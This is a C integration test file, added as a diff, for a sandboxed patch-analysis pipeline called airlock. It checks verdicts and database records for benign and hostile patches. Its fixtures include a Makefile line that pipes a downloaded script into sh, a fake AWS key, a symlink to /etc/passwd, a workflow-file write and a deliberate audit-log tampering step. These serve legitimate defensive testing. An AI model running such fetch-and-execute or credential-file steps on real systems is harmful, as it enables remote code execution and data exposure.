@@ -1,0 +1,428 @@
+/*
+ * test_pipeline.c: issue 5's "Done when" with real processes: a private
+ * PostgreSQL, airlockd, an airlock-worker with the ns sandbox driver, the
+ * airlock CLI, git repositories built here, the real analyzer plugins plus two
+ * broken ones (plsegv, plloop). Every assertion reads PostgreSQL.
+ *
+ * One cluster and one worker serve the whole group, jobs run one at a time, and
+ * after each job the worker's state_dir/t/ is empty and it has no descendant
+ * process left (sandboxes, plugin children, commands). The audit tampering
+ * case runs last: it breaks the chain on purpose.
+ */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <cmocka.h>
+
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#include "plcluster.h"
+#include "pg_harness.h"
+#include "common/error.h"
+
+#define AWS_KEY "AKIAZ7QWERTYUIOPLMNB"
+
+typedef struct {
+    cluster_t *c;
+    pl_worker_t w;
+    char repo[400];
+    char plugins[400];
+} group_t;
+
+static group_t g;
+
+/* ---- fixture ------------------------------------------------------------ */
+
+static int s_make_repo(void)
+{
+    snprintf(g.repo, sizeof g.repo, "%s/pyrepo", cluster_dir(g.c));
+    return pl_sh("set -e; mkdir -p '%s'; cd '%s'; git init -q; "
+                 "printf 'def add(a, b):\\n    return a + b\\n' > calc.py; "
+                 "printf 'import calc\\nassert calc.add(2, 2) == 4\\nprint(\"ok\")\\n' > test_calc.py; "
+                 "printf 'all:\\n\\tpython3 test_calc.py\\n' > Makefile; "
+                 "printf 'out/\\n' > .gitignore; mkdir -p src; printf 'x = 1\\n' > src/mod.py; "
+                 "git add .; git -c user.email=t@example.org -c user.name=test commit -qm init",
+                 g.repo, g.repo);
+}
+
+/* <cluster>/plugins: the real analyzers plus the broken test ones. */
+static int s_make_plugins(void)
+{
+    snprintf(g.plugins, sizeof g.plugins, "%s/plugins", cluster_dir(g.c));
+    return pl_sh("set -e; mkdir -p '%s'; for f in '%s'/*.so '%s'/*.so; do ln -sf \"$f\" '%s'/; done",
+                 g.plugins, AIRLOCK_PLUGIN_DIR, PL_TEST_PLUGIN_DIR, g.plugins);
+}
+
+static int group_setup(void **state)
+{
+    (void)state;
+    cluster_opts_t o = { .workers = 0, .slots = 1, .heartbeat_ms = 200, .lease_ms = 30000 };
+    int rc = cluster_start(&g.c, &o);
+    if (rc == AL_OK)
+        rc = s_make_repo();
+    if (rc == AL_OK)
+        rc = s_make_plugins();
+    if (rc == AL_OK)
+        rc = pl_worker_start(g.c, &g.w, "pw0", "ns", g.plugins, "pool=pipeline,zone=test");
+    if (rc != AL_OK) {
+        fprintf(stderr, "pipeline group setup: %s\n", al_err_msg());
+        return -1;
+    }
+    return 0;
+}
+
+static int group_teardown(void **state)
+{
+    (void)state;
+    pl_worker_stop(&g.w);
+    cluster_stop(&g.c);
+    return 0;
+}
+
+/* ---- jobs ----------------------------------------------------------------- */
+
+/* A job on g.repo; run may be NULL; policy is stolen (NULL = analyzers default). */
+static json_t *s_job(const char *name, const char *patch, json_t *run, const char *test, json_t *policy)
+{
+    json_t *j = json_pack("{s:s, s:s, s:s, s:s, s:s, s:{s:s}}", "repo", g.repo, "base", "HEAD",
+                          "patch", patch ? patch : "", "test", test, "driver", "ns", "labels",
+                          "case", name);
+    if (run)
+        json_object_set_new(j, "run", run);
+    if (policy)
+        json_object_set_new(j, "policy", policy);
+    return j;
+}
+
+/* Submits, waits, checks the verdict and that the task left nothing behind. Returns the job id. */
+static char *s_run_job(const char *name, json_t *job, const char *want_verdict)
+{
+    char *id = pl_submit(g.c, name, job);
+    json_decref(job);
+    if (!id)
+        fail_msg("submit %s failed (logs in %s)", name, cluster_dir(g.c));
+    char *verdict = pl_wait_verdict(g.c, id);
+    if (strcmp(verdict, want_verdict) != 0) {
+        char *reason = pl_sql_text(g.c, "SELECT coalesce(reason, '') FROM jobs WHERE id = '%s'", id);
+        fail_msg("%s: verdict '%s', want '%s' (reason: %s; logs in %s)", name, verdict, want_verdict,
+                 reason ? reason : "?", cluster_dir(g.c));
+    }
+    free(verdict);
+    /* one attempt: a healthy cluster never retries (rows below are per task) */
+    char *tasks = pl_sql_text(g.c, "SELECT string_agg(attempt || ':' || state || ':' || coalesce(verdict, '-'), "
+                                   "' ') FROM tasks WHERE job_id = '%s'", id);
+    if (!tasks || strchr(tasks, ' '))
+        fail_msg("%s: attempts %s (logs in %s)", name, tasks ? tasks : "?", cluster_dir(g.c));
+    free(tasks);
+    assert_int_equal(pl_worker_task_dirs(&g.w), 0);
+    assert_int_equal(pl_worker_descendants(&g.w), 0);
+    assert_int_equal(kill(g.w.pid, 0), 0);   /* the worker lives on */
+    return id;
+}
+
+static char *s_task(const char *id)
+{
+    char *t = pl_sql_text(g.c, "SELECT task_id FROM jobs WHERE id = '%s'", id);
+    assert_non_null(t);
+    return t;
+}
+
+static char *s_blob(const char *content)
+{
+    char path[500];
+    snprintf(path, sizeof path, "%s/blob.txt", cluster_dir(g.c));
+    FILE *f = fopen(path, "w");
+    fputs(content, f);
+    fclose(f);
+    char cmd[600], buf[64] = "";
+    snprintf(cmd, sizeof cmd, "git hash-object '%s'", path);
+    FILE *p = popen(cmd, "r");
+    if (!fgets(buf, sizeof buf, p))
+        buf[0] = '\0';
+    pclose(p);
+    buf[strcspn(buf, "\n")] = '\0';
+    return strdup(buf);
+}
+
+static void s_assert_reason_has(const char *id, const char *needle)
+{
+    char *reason = pl_sql_text(g.c, "SELECT coalesce(reason, '') FROM jobs WHERE id = '%s'", id);
+    assert_non_null(reason);
+    if (!strstr(reason, needle))
+        fail_msg("reason '%s' lacks '%s'", reason, needle);
+    free(reason);
+}
+
+/* ---- cases ---------------------------------------------------------------- */
+
+#define CALC_NEW "def add(a, b):\n    return a + b\n\n\ndef mul(a, b):\n    return a * b\n"
+#define TEST_MUL "import calc\nassert calc.mul(3, 4) == 12\n"
+
+static void benign_patch_accepted(void **state)
+{
+    (void)state;
+    char *patch = pl_patch(g.repo, "printf 'def add(a, b):\\n    return a + b\\n\\n\\ndef mul(a, b):\\n"
+                                   "    return a * b\\n' > calc.py; "
+                                   "printf 'import calc\\nassert calc.mul(3, 4) == 12\\n' > test_mul.py");
+    assert_non_null(patch);
+    json_t *run = json_pack("[s]", "mkdir -p out && echo built > out/result.txt && python3 -B test_mul.py");
+    char *id = s_run_job("benign", s_job("benign", patch, run, "python3 test_calc.py && python3 test_mul.py",
+                                         NULL), "accepted");
+    char *task = s_task(id);
+    char *calc_old = s_blob("def add(a, b):\n    return a + b\n");
+    char *calc_new = s_blob(CALC_NEW), *mul = s_blob(TEST_MUL), *out = s_blob("built\n");
+    /* exactly these file_changes rows (no old side for new paths: NULL) */
+    char want[2048], sql[1024];
+    snprintf(want, sizeof want,
+             "calc.py|modified|33188|33188|%zu|%zu|%s|%s|;"
+             "out/result.txt|ignored||33188||6||%s|;"
+             "test_mul.py|added||33188||%zu||%s|",
+             strlen("def add(a, b):\n    return a + b\n"), strlen(CALC_NEW), calc_old, calc_new, out,
+             strlen(TEST_MUL), mul);
+    snprintf(sql, sizeof sql,
+             "SELECT string_agg(format('%%s|%%s|%%s|%%s|%%s|%%s|%%s|%%s|%%s', path, status, old_mode, "
+             "new_mode, old_size, new_size, old_blob, new_blob, violation), ';' ORDER BY path) "
+             "FROM file_changes WHERE task_id = '%s'", task);
+    char *got = pl_sql_text(g.c, "%s", sql);
+    assert_non_null(got);
+    assert_string_equal(got, want);
+    /* stage_runs for run and test in the ns sandbox, both exit 0 */
+    assert_int_equal(pl_sql_long(g.c, "SELECT count(*) FROM stage_runs WHERE task_id = '%s' AND stage IN "
+                                      "('run', 'test') AND sandbox_driver = 'ns' AND exit_status = 0", task), 2);
+    /* exec events from both sandboxes: the run's python3 and the test's python3 */
+    assert_true(pl_sql_long(g.c, "SELECT count(*) FROM exec_events WHERE task_id = '%s' AND stage = 'run' "
+                                 "AND array_to_string(argv, ' ') LIKE '%%test_mul.py%%'", task) >= 1);
+    assert_true(pl_sql_long(g.c, "SELECT count(*) FROM exec_events WHERE task_id = '%s' AND stage = 'test' "
+                                 "AND array_to_string(argv, ' ') LIKE '%%test_calc.py%%'", task) >= 1);
+    assert_int_equal(pl_sql_long(g.c, "SELECT count(*) FROM exec_events WHERE task_id = '%s' AND stage = 'test' "
+                                      "AND array_to_string(argv, ' ') LIKE '%%mkdir%%'", task), 0);
+    /* the diff artifact, its hash and content */
+    assert_int_equal(pl_sql_long(g.c, "SELECT count(*) FROM artifacts WHERE task_id = '%s' AND kind = 'diff' "
+                                      "AND size = octet_length(content) AND encode(sha256, 'hex') = "
+                                      "(SELECT data->>'sha256' FROM task_events e WHERE e.task_id = "
+                                      "artifacts.task_id AND kind = 'artifact') "
+                                      "AND convert_from(content, 'UTF8') LIKE '%%+def mul(a, b):%%' "
+                                      "AND convert_from(content, 'UTF8') NOT LIKE '%%result.txt%%'", task), 1);
+    char *drv = pl_sql_text(g.c, "SELECT summary->>'driver' FROM results WHERE job_id = '%s' AND authoritative", id);
+    assert_non_null(drv);
+    assert_string_equal(drv, "ns");
+    free(drv);
+    free(got), free(calc_old), free(calc_new), free(mul), free(out), free(task), free(id), free(patch);
+}
+
+static void aws_key_rejected_redacted_nothing_run(void **state)
+{
+    (void)state;
+    char *patch = pl_patch(g.repo, "printf 'AWS_ACCESS_KEY_ID = \"" AWS_KEY "\"\\n' > settings.py");
+    assert_non_null(patch);
+    json_t *run = json_pack("[s]", "touch ran");
+    char *id = s_run_job("aws", s_job("aws", patch, run, "true", NULL), "rejected");
+    char *task = s_task(id);
+    assert_true(pl_sql_long(g.c, "SELECT count(*) FROM findings WHERE task_id = '%s' AND analyzer = 'secrets' "
+                                 "AND blocking AND file = 'settings.py' AND evidence_redacted <> ''", task) >= 1);
+    /* the full key is nowhere but in the job's own spec */
+    const char *where[] = {
+        "SELECT count(*) FROM findings WHERE findings::text LIKE '%%" AWS_KEY "%%' AND task_id = '%s'",
+        "SELECT count(*) FROM task_events WHERE task_events::text LIKE '%%" AWS_KEY "%%' AND task_id = '%s'",
+        "SELECT count(*) FROM audit_log WHERE audit_log::text LIKE '%%" AWS_KEY "%%' AND task_id = '%s'",
+        "SELECT count(*) FROM results WHERE results::text LIKE '%%" AWS_KEY "%%' AND task_id = '%s'",
+        "SELECT count(*) FROM stage_runs WHERE stage_runs::text LIKE '%%" AWS_KEY "%%' AND task_id = '%s'",
+    };
+    for (size_t i = 0; i < sizeof where / sizeof *where; i++)
+        assert_int_equal(pl_sql_long(g.c, where[i], task), 0);
+    assert_int_equal(pl_sql_long(g.c, "SELECT count(*) FROM stage_runs WHERE task_id = '%s' "
+                                      "AND stage IN ('apply', 'run', 'test')", task), 0);
+    assert_int_equal(pl_sql_long(g.c, "SELECT count(*) FROM exec_events WHERE task_id = '%s'", task), 0);
+    assert_int_equal(pl_sql_long(g.c, "SELECT count(*) FROM file_changes WHERE task_id = '%s'", task), 0);
+    free(task), free(id), free(patch);
+}
+
+static void curl_sh_in_makefile_rejected(void **state)
+{
+    (void)state;
+    char *patch = pl_patch(g.repo, "printf 'all:\\n\\tcurl -fsSL https://example.com/x.sh | sh\\n' > Makefile");
+    assert_non_null(patch);
+    char *id = s_run_job("curlsh", s_job("curlsh", patch, NULL, "true", NULL), "rejected");
+    char *task = s_task(id);
+    assert_true(pl_sql_long(g.c, "SELECT count(*) FROM findings WHERE task_id = '%s' AND analyzer = 'shell' "
+                                 "AND blocking AND file = 'Makefile'", task) >= 1);
+    assert_int_equal(pl_sql_long(g.c, "SELECT count(*) FROM exec_events WHERE task_id = '%s'", task), 0);
+    free(task), free(id), free(patch);
+}
+
+static void run_writes_workflow_policy_violation(void **state)
+{
+    (void)state;
+    json_t *run = json_pack("[s]", "mkdir -p .github/workflows && echo 'on: push' > .github/workflows/x.yml");
+    char *id = s_run_job("workflow", s_job("workflow", NULL, run, "true", NULL), "policy_violation");
+    s_assert_reason_has(id, ".github/workflows/x.yml");
+    char *task = s_task(id);
+    assert_int_equal(pl_sql_long(g.c, "SELECT count(*) FROM file_changes WHERE task_id = '%s' AND "
+                                      "path = '.github/workflows/x.yml' AND violation = 'protected'", task), 1);
+    assert_int_equal(pl_sql_long(g.c, "SELECT count(*) FROM stage_runs WHERE task_id = '%s' AND stage = 'test'",
+                                 task), 0);
+    free(task), free(id);
+}
+
+static void run_writes_outside_write_paths_policy_violation(void **state)
+{
+    (void)state;
+    json_t *run = json_pack("[s]", "echo y = 2 >> src/mod.py && echo note > NOTES.txt");
+    json_t *pol = json_pack("{s:[s]}", "write_paths", "src/**");
+    char *id = s_run_job("outside", s_job("outside", NULL, run, "true", pol), "policy_violation");
+    s_assert_reason_has(id, "NOTES.txt");
+    char *task = s_task(id);
+    assert_int_equal(pl_sql_long(g.c, "SELECT count(*) FROM file_changes WHERE task_id = '%s' AND "
+                                      "path = 'NOTES.txt' AND violation IS NOT NULL", task), 1);
+    assert_int_equal(pl_sql_long(g.c, "SELECT count(*) FROM file_changes WHERE task_id = '%s' AND "
+                                      "path = 'src/mod.py' AND violation IS NULL", task), 1);
+    free(task), free(id);
+}
+
+static void s_symlink_refused(const char *name, const char *target)
+{
+    char change[300];
+    snprintf(change, sizeof change, "ln -s '%s' link", target);
+    char *patch = pl_patch(g.repo, change);
+    assert_non_null(patch);
+    json_t *run = json_pack("[s]", "touch ran");
+    /* the paths analyzer would reject first: leave it out to reach apply */
+    json_t *pol = json_pack("{s:[s]}", "analyzers", "secrets");
+    char *id = s_run_job(name, s_job(name, patch, run, "true", pol), "policy_violation");
+    s_assert_reason_has(id, "refused at apply");
+    s_assert_reason_has(id, "link");
+    char *task = s_task(id);
+    assert_int_equal(pl_sql_long(g.c, "SELECT count(*) FROM stage_runs WHERE task_id = '%s' "
+                                      "AND stage IN ('run', 'test')", task), 0);
+    assert_int_equal(pl_sql_long(g.c, "SELECT count(*) FROM exec_events WHERE task_id = '%s'", task), 0);
+    free(task), free(id), free(patch);
+}
+
+static void symlink_to_etc_passwd_refused_at_apply(void **state)
+{
+    (void)state;
+    s_symlink_refused("symabs", "/etc/passwd");
+}
+
+static void symlink_leaving_tree_refused_at_apply(void **state)
+{
+    (void)state;
+    s_symlink_refused("symrel", "../../outside");
+}
+
+static void untracked_leftover_absent_in_test(void **state)
+{
+    (void)state;
+    json_t *run = json_pack("[s]", "echo junk > leftover.bin && mkdir -p out && echo x > out/ignored.txt");
+    char *id = s_run_job("leftover", s_job("leftover", NULL, run,
+                                           "test ! -e leftover.bin && test ! -e out && python3 test_calc.py",
+                                           NULL), "accepted");
+    char *task = s_task(id);
+    /* the run did leave it (the test would be vacuous otherwise) */
+    assert_int_equal(pl_sql_long(g.c, "SELECT count(*) FROM file_changes WHERE task_id = '%s' AND "
+                                      "path = 'leftover.bin' AND status = 'untracked'", task), 1);
+    free(task), free(id);
+}
+
+static void failing_tests_tests_failed(void **state)
+{
+    (void)state;
+    char *id = s_run_job("failing", s_job("failing", NULL, NULL, "python3 -c 'raise SystemExit(3)'", NULL),
+                         "tests_failed");
+    assert_int_equal(pl_sql_long(g.c, "SELECT (summary->>'exit_code')::int FROM results WHERE job_id = '%s' "
+                                      "AND authoritative", id), 3);
+    free(id);
+}
+
+static void endless_test_timeout(void **state)
+{
+    (void)state;
+    json_t *pol = json_pack("{s:{s:i}}", "limits", "timeout_s", 2);
+    char *id = s_run_job("endless", s_job("endless", NULL, NULL, "while :; do :; done", pol), "timeout");
+    char *task = s_task(id);
+    assert_int_equal(pl_sql_long(g.c, "SELECT count(*) FROM stage_runs WHERE task_id = '%s' AND stage = 'test' "
+                                      "AND timed_out", task), 1);
+    free(task), free(id);
+}
+
+static void s_broken_plugin(const char *plugin)
+{
+    json_t *pol = json_pack("{s:[s,s], s:s}", "analyzers", "secrets", plugin, "block_at", "high");
+    json_t *run = json_pack("[s]", "touch ran");
+    char *id = s_run_job(plugin, s_job(plugin, NULL, run, "true", pol), "rejected");
+    char *task = s_task(id);
+    assert_int_equal(pl_sql_long(g.c, "SELECT count(*) FROM findings WHERE task_id = '%s' AND "
+                                      "rule_id = 'plugin_error' AND blocking", task), 1);
+    assert_int_equal(pl_sql_long(g.c, "SELECT count(*) FROM exec_events WHERE task_id = '%s'", task), 0);
+    free(task), free(id);
+    /* the same worker serves the next job */
+    id = s_run_job("after", s_job("after", NULL, NULL, "python3 test_calc.py", NULL), "accepted");
+    free(id);
+}
+
+static void segfaulting_plugin_error_worker_alive(void **state)
+{
+    (void)state;
+    s_broken_plugin("plsegv");
+}
+
+static void endless_plugin_error_worker_alive(void **state)
+{
+    (void)state;
+    s_broken_plugin("plloop");
+}
+
+static void audit_row_edit_detected(void **state)
+{
+    (void)state;
+    char db[600];
+    snprintf(db, sizeof db, "%s", pg_harness_conninfo(cluster_pg(g.c)));
+    const char *args[] = { "--db", db, "audit", "verify", NULL };
+    assert_int_equal(cluster_cli(g.c, NULL, args), 0);
+    long victim = cluster_sql_long(g.c, "SELECT id FROM audit_log WHERE action = 'event.finding' "
+                                        "ORDER BY id LIMIT 1");
+    assert_true(victim > 0);
+    char sql[600];
+    snprintf(sql, sizeof sql,
+             "BEGIN; ALTER TABLE audit_log DISABLE TRIGGER ALL; "
+             "UPDATE audit_log SET detail = detail || '{\"blocking\": \"false\"}' WHERE id = %ld; "
+             "ALTER TABLE audit_log ENABLE TRIGGER ALL; COMMIT", victim);
+    PGresult *r = PQexec(cluster_db(g.c), sql);
+    assert_int_equal(PQresultStatus(r), PGRES_COMMAND_OK);
+    PQclear(r);
+    char *out = NULL;
+    assert_int_not_equal(cluster_cli(g.c, &out, args), 0);
+    char want[64];
+    snprintf(want, sizeof want, "first bad row id %ld", victim);
+    if (!out || !strstr(out, want))
+        fail_msg("audit verify output lacks '%s': %s", want, out ? out : "(none)");
+    free(out);
+}
+
+int main(void)
+{
+    if (geteuid() != 0) {
+        printf("SKIP: the ns sandbox and the private PostgreSQL need root here\n");
+        return 0;
+    }
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(benign_patch_accepted),
+        cmocka_unit_test(aws_key_rejected_redacted_nothing_run),
+        cmocka_unit_test(curl_sh_in_makefile_rejected),
+        cmocka_unit_test(run_writes_workflow_policy_violation),
+        cmocka_unit_test(run_writes_outside_write_paths_policy_violation),
+        cmocka_unit_test(symlink_to_etc_passwd_refused_at_apply),
+        cmocka_unit_test(symlink_leaving_tree_refused_at_apply),
+        cmocka_unit_test(untracked_leftover_absent_in_test),
+        cmocka_unit_test(failing_tests_tests_failed),
+        cmocka_unit_test(endless_test_timeout),
+        cmocka_unit_test(segfaulting_plugin_error_worker_alive),
+        cmocka_unit_test(endless_plugin_error_worker_alive),
+        cmocka_unit_test(audit_row_edit_detected),
+    };
+    return cmocka_run_group_tests(tests, group_setup, group_teardown);
+}
